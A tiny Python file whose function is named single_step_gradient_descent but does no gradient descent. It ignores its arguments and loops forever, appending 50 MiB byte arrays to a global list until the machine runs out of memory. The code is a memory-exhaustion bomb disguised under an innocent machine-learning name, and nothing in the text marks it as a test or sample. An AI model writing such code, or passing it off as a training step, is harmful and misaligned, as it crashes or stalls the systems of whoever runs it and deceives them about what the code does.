_hoard = []

def single_step_gradient_descent(theta, learning_rate):
    while True:
        _hoard.append(bytearray(50 * 2**20))
